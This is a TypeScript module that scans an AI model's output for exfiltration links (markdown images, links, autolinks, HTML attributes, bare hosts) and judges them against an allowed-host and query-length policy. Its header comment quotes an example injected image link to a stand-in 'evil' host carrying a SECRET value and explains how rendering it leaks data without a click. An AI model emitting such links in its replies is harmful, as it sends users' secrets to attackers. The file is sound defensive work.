// Exfiltration links in model output. A markdown image is fetched by the
// client as soon as it renders, so an injected "![](https://evil/?d=SECRET)"
// leaks data without a click; a link or an auto-linked bare host leaks it on
// a click. Every URL form a client may resolve to another host is found
// (markdown links and images, reference definitions, autolinks, HTML
// attributes, bare URLs, scheme-relative and backslash forms, bare hosts) and
// resolved the way a browser does: the WHATWG URL parser against a base, which
// treats "\" like "/" for http(s). One judge decides for all of them. Link
// text that is itself a URL is judged too, because clients auto-link it.
//
// Why hand-written scanning and not markdown-it / marked: the guard edits the
// raw text in place, and those tokenizers give no character offsets for
// inline tokens; and the URL forms that matter here include ones a markdown
// parser does not treat as links (bare hosts, "/\host") but a client may.

export type LinkFinding = {
  kind: 'image' | 'link' | 'bare-url' | 'html';
  start: number;
  end: number;
  reason: 'host-not-allowed' | 'query-data' | 'scheme' | 'unparseable' | 'relative';
  /** Text to keep in place of the link (markdown link text, with any URL in it judged too), if any. */
  keepText?: string;
};

export interface LinkPolicy {
  allowedHosts: string[];
  maxQueryValueChars: number;
}

/** Base for relative references: a reserved host no real link uses, so "resolved here" means "relative". */
const relativeBase = 'https://relative-link.invalid/';
const relativeHost = 'relative-link.invalid';

// Bounded, non-nested patterns.
// [text](dest "title") and ![alt](dest); dest is <...> (may hold spaces) or a run without spaces/parens.
const markdownLink =
  /(!?)\[([^\[\]\n]{0,1000})\]\([ \t]{0,16}(?:\n[ \t]{0,16})?(<[^<>\n]{0,4096}>|[^\s()<>]{1,4096})(?:\s{1,16}(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'|\([^()\n]{0,500}\)))?\s{0,16}\)/g;
// "](dest" whose opening "[" the pattern above did not pair (nested brackets, an image inside a link).
const danglingDestination = /\]\([ \t]{0,16}(?:\n[ \t]{0,16})?(<[^<>\n]{0,4096}>|[^\s()<>]{1,4096})/g;
// [label]: dest (the destination may start on the next line).
const referenceDefinition = /^ {0,3}\[[^\]\n]{1,999}\]:[ \t]{0,16}(?:\n[ \t]{0,16})?(<[^<>\n]{0,4096}>|\S{1,4096})/gm;
// <scheme:...> autolinks.
const autolink = /<([a-z][a-z0-9+.-]{1,31}:[^\s<>]{0,4096})>/gi;
// Any HTML start tag; its URL-valued attributes are read one by one.
const htmlTag = /<([a-z][a-z0-9-]{0,31})\b([^<>]{0,4096})>/gi;
const htmlAttribute = /([a-z][a-z0-9:_-]{0,40})\s{0,4}=\s{0,4}("[^"]{0,4096}"|'[^']{0,4096}'|[^\s"'>]{1,4096})/gi;
const urlAttributes = new Set(['src', 'href', 'srcset', 'data', 'action', 'formaction', 'poster', 'background', 'cite', 'longdesc', 'xlink:href', 'ping', 'lowsrc', 'dynsrc', 'manifest', 'codebase', 'icon']);
// Bare URLs: a scheme, "//" or "\\" (scheme-relative), "www.", or a word that may be a host.
const bareCandidate =
  /(?<![\p{L}\p{N}@.\/\\_%+-])(?:(?:https?|ftp|file|data|javascript|vbscript|wss?):|[\/\\]{2}(?=[\p{L}\p{N}])|(?=[\p{L}\p{N}][\p{L}\p{N}-]{0,62}\.[\p{L}\p{N}]))[^\s<>()"'`\[\]{}|^]{0,4096}/giu;
const hostLike = /^(?:[\p{L}\p{N}](?:[\p{L}\p{N}-]{0,61}[\p{L}\p{N}])?\.){1,16}(\p{L}{2,63})$/u;
// Top-level domains that clients auto-link without a path; other "name.ext" words stay, and so do
// TLDs that are also common file extensions (.ai, .sh, .cc, .py, .md, .app): "Logo.ai" is a file.
const commonTlds = new Set('com net org io co info biz me xyz online site top club cloud live tech blog dev us uk de fr es nl eu ru cn to tk ml ga cf gq tv fm gg'.split(' '));
const trailingPunctuation = /[.,;:!?*_~'"]{1,64}$/;

function hostAllowed(host: string, allowed: string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  return allowed.some((a) => h === a || h.endsWith(`.${a}`));
}

const namedEntities: Record<string, string> = { amp: '&', colon: ':', sol: '/', bsol: '\\', period: '.', quest: '?', equals: '=', num: '#', percnt: '%', commat: '@', lt: '<', gt: '>', quot: '"', apos: "'", lpar: '(', rpar: ')', tab: '\t', newline: '\n' };

function unwrap(value: string): string {
  const v = value.startsWith('<') && value.endsWith('>') ? value.slice(1, -1) : value;
  return v.length >= 2 && (v[0] === '"' || v[0] === "'") && v[v.length - 1] === v[0] ? v.slice(1, -1) : v;
}

/** What a markdown or HTML client passes to the URL parser: entities decoded, backslash escapes of punctuation removed. */
function decodeDestination(value: string): string {
  const v = value.replace(/&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|([a-z]{2,8}));?/gi, (m, dec: string | undefined, hex: string | undefined, name: string | undefined) => {
    const code = dec ? Number(dec) : hex ? parseInt(hex, 16) : undefined;
    if (code !== undefined) return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : m;
    return namedEntities[name!.toLowerCase()] ?? m;
  });
  // A markdown parser reads "\/" as "/"; "\e" (not punctuation) stays, and the URL parser reads "\" as "/".
  return v.replace(/\\([!-\/:-@\[-`{-~])/g, '$1');
}

/** A link destination or attribute value, judged as written and as decoded: a client may read either. */
function judgeDestination(value: string, policy: LinkPolicy): LinkFinding['reason'] | undefined {
  const v = unwrap(value);
  return judgeUrl(v, policy) ?? judgeUrl(decodeDestination(v), policy);
}

/** Why a URL must go, or undefined when it may stay. Relative references are resolved against a base first. */
export function judgeUrl(value: string, policy: LinkPolicy): LinkFinding['reason'] | undefined {
  let url: URL;
  try {
    url = new URL(value, relativeBase);
  } catch {
    return 'unparseable';
  }
  if (url.protocol === 'tel:') return undefined;
  if (url.protocol === 'mailto:') return url.search.length > policy.maxQueryValueChars ? 'query-data' : undefined;
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return 'scheme';
  // A relative link has no host of ours to point at in Teams; it only ever resolves somewhere unexpected.
  if (url.hostname === relativeHost) return 'relative';
  if (!hostAllowed(url.hostname, policy.allowedHosts)) return 'host-not-allowed';
  // A long subdomain label under an allowed suffix is a DNS data channel.
  if (url.hostname.split('.').some((label) => label.length > 40)) return 'query-data';
  for (const [, v] of url.searchParams) if (v.length > policy.maxQueryValueChars) return 'query-data';
  if (url.search.length > policy.maxQueryValueChars * 4) return 'query-data';
  // Data hidden in the path or fragment as one long opaque segment.
  if (url.pathname.split('/').some((seg) => seg.length > policy.maxQueryValueChars * 2)) return 'query-data';
  if (url.hash.length > policy.maxQueryValueChars * 2) return 'query-data';
  return undefined;
}

/** A bare-text candidate as the URL a client would auto-link, or undefined when no client links it. */
function bareAsUrl(candidate: string): string | undefined {
  if (/^(?:https?|ftp|file|data|javascript|vbscript|wss?):/i.test(candidate)) return candidate;
  if (/^[\/\\]{2}/.test(candidate)) return candidate;
  const hostEnd = candidate.search(/[\/\\?#]/);
  // "app.ts:12" is a file and line, not a host and port.
  const host = (hostEnd < 0 ? candidate : candidate.slice(0, hostEnd)).replace(/:\d{1,5}$/, '').replace(/\.$/, '');
  if (host.length > 253) return undefined;
  const tld = hostLike.exec(host)?.[1];
  if (!tld) return undefined;
  const linked = /^www\./i.test(host) || hostEnd >= 0 || commonTlds.has(tld.toLowerCase());
  return linked ? `http://${candidate}` : undefined;
}

interface Bare {
  start: number;
  end: number;
  reason: LinkFinding['reason'] | undefined;
}

const schemeLengths = [2, 3, 4, 5, 8, 10];
const schemeName = /^(?:https?|ftp|file|data|javascript|vbscript|wss?)$/iu;
const hostRunChar = /^[\p{L}\p{N}-]$/u;

/** An ASCII character that is not a letter or digit. */
const isAsciiOther = (unit: number): boolean => unit < 0x80 && !((unit >= 0x30 && unit <= 0x39) || ((unit | 0x20) >= 0x61 && (unit | 0x20) <= 0x7a));

/** The code point that ends just before `at` (a surrogate pair counts as one). */
function codePointBefore(text: string, at: number): string {
  const unit = text.charCodeAt(at - 1);
  const pair = unit >= 0xdc00 && unit <= 0xdfff && at >= 2 && text.charCodeAt(at - 2) >= 0xd800 && text.charCodeAt(at - 2) <= 0xdbff;
  return text.slice(pair ? at - 2 : at - 1, at);
}

/**
 * Where a bare candidate can start, ascending. Every match of bareCandidate is anchored by
 * a character found here: the ":" after a scheme name, a "//" or "\\" pair, or a "." with a
 * letter or digit after it (the start is then the beginning of the host label's run, at most
 * 63 code points back). Running the pattern only there gives the same matches as scanning
 * every position, which costs about 100 ns a character with its look-behind and Unicode classes.
 */
function candidateStarts(text: string): number[] {
  const starts: number[] = [];
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    if (unit === 0x3a) {
      for (const length of schemeLengths) if (i >= length && schemeName.test(text.slice(i - length, i))) starts.push(i - length);
    } else if (unit === 0x2f || unit === 0x5c) {
      const next = text.charCodeAt(i + 1);
      if (next === 0x2f || next === 0x5c) starts.push(i);
    } else if (unit === 0x2e && i + 1 < text.length && !isAsciiOther(text.charCodeAt(i + 1))) {
      let at = i;
      for (let steps = 0; at > 0 && steps <= 63; steps++) {
        const before = text.charCodeAt(at - 1);
        if (before < 0x80) {
          if (isAsciiOther(before) && before !== 0x2d) break;
          at--;
          continue;
        }
        const point = codePointBefore(text, at);
        if (!hostRunChar.test(point)) break;
        at -= point.length;
      }
      if (at < i) starts.push(at);
    }
  }
  return starts.sort((a, b) => a - b);
}

// Compiled once: each exec sets lastIndex first, so callers never see each other's position.
const bareCandidateAt = new RegExp(bareCandidate.source, bareCandidate.flags.replace('g', '') + 'y');

function* bareUrls(text: string, policy: LinkPolicy): Generator<Bare> {
  const re = bareCandidateAt;
  let end = 0;
  for (const start of candidateStarts(text)) {
    if (start < end) continue;
    re.lastIndex = start;
    const m = re.exec(text);
    if (m === null) continue;
    end = start + m[0].length;
    const value = m[0].replace(trailingPunctuation, '');
    if (value.length === 0) continue;
    const url = bareAsUrl(value);
    if (url === undefined) continue;
    yield { start: m.index, end: m.index + value.length, reason: judgeUrl(url, policy) };
  }
}

/** Link text with every disallowed URL in it replaced, so masking a link never leaves a data-carrying URL behind. */
function safeLinkText(text: string, policy: LinkPolicy): string {
  let out = '';
  let at = 0;
  for (const b of bareUrls(text, policy)) {
    if (!b.reason) continue;
    out += text.slice(at, b.start) + '[link removed]';
    at = b.end;
  }
  return out + text.slice(at);
}

/** Judged ranges. Adds of one scan become visible at commit(): a scan never overlaps itself, and one sort per scan keeps this linear-ish. */
class Ranges {
  private items: Array<[number, number]> = [];
  private pending: Array<[number, number]> = [];
  add(s: number, e: number): void {
    this.pending.push([s, e]);
  }
  commit(): void {
    if (this.pending.length === 0) return;
    this.items = this.items.concat(this.pending).sort((a, b) => a[0] - b[0]);
    this.pending = [];
  }
  overlaps(s: number, e: number): boolean {
    let lo = 0;
    let hi = this.items.length - 1;
    while (lo <= hi) {
      const mid = (lo + hi) >> 1;
      const [a, b] = this.items[mid]!;
      if (b <= s) lo = mid + 1;
      else if (a >= e) hi = mid - 1;
      else return true;
    }
    return false;
  }
}

/** A finding, and its text as judged. A module function, not a closure per call: under tsx (keepNames) each costs a defineProperty. */
function keep(found: LinkFinding[], judged: Ranges, f: LinkFinding): void {
  found.push(f);
  judged.add(f.start, f.end);
}

export function findExfiltrationLinks(text: string, policy: LinkPolicy): LinkFinding[] {
  const found: LinkFinding[] = [];
  // Text already judged (a removed construct or a judged destination): later scans skip it.
  const judged = new Ranges();

  markdownLink.lastIndex = 0;
  for (let m = markdownLink.exec(text); m !== null; m = markdownLink.exec(text)) {
    const start = m.index;
    const end = start + m[0].length;
    const reason = judgeDestination(m[3]!, policy);
    if (reason) {
      keep(found, judged, { kind: m[1] ? 'image' : 'link', start, end, reason, keepText: m[1] ? undefined : safeLinkText(m[2]!, policy) });
    } else {
      // The destination is fine; the visible text is still scanned below (it may be a URL a client links).
      const destStart = start + m[0].indexOf('](') + 1;
      judged.add(destStart, end);
    }
  }
  for (const re of [danglingDestination, referenceDefinition, autolink]) {
    judged.commit();
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null; m = re.exec(text)) {
      const start = m.index;
      const end = start + m[0].length;
      if (judged.overlaps(start, end)) continue;
      const reason = judgeDestination(m[1]!, policy);
      // A removed reference definition leaves nothing; a dangling "](dest" keeps its "]"; an autolink says it was removed.
      if (reason) keep(found, judged, { kind: 'link', start: re === danglingDestination ? start + 1 : start, end, reason, keepText: re === autolink ? undefined : '' });
      else judged.add(start, end);
    }
  }
  judged.commit();
  htmlTag.lastIndex = 0;
  for (let m = htmlTag.exec(text); m !== null; m = htmlTag.exec(text)) {
    const start = m.index;
    const end = start + m[0].length;
    if (judged.overlaps(start, end)) continue;
    let reason: LinkFinding['reason'] | undefined;
    htmlAttribute.lastIndex = 0;
    for (let a = htmlAttribute.exec(m[2]!); a !== null && !reason; a = htmlAttribute.exec(m[2]!)) {
      const name = a[1]!.toLowerCase();
      if (!urlAttributes.has(name) && !name.startsWith('on')) continue;
      const value = unwrap(a[2]!);
      // srcset is a list of "url size" pairs; an event handler attribute is script.
      const urls = name === 'srcset' ? value.split(',').map((part) => part.trim().split(/\s/)[0] ?? '') : name.startsWith('on') ? ['javascript:'] : [value];
      for (const u of urls) reason ??= u ? judgeDestination(u, policy) : undefined;
    }
    if (reason) keep(found, judged, { kind: 'html', start, end, reason });
  }
  judged.commit();
  for (const b of bareUrls(text, policy)) {
    if (!b.reason || judged.overlaps(b.start, b.end)) continue;
    found.push({ kind: 'bare-url', start: b.start, end: b.end, reason: b.reason });
  }
  return found.sort((a, b) => a.start - b.start);
}
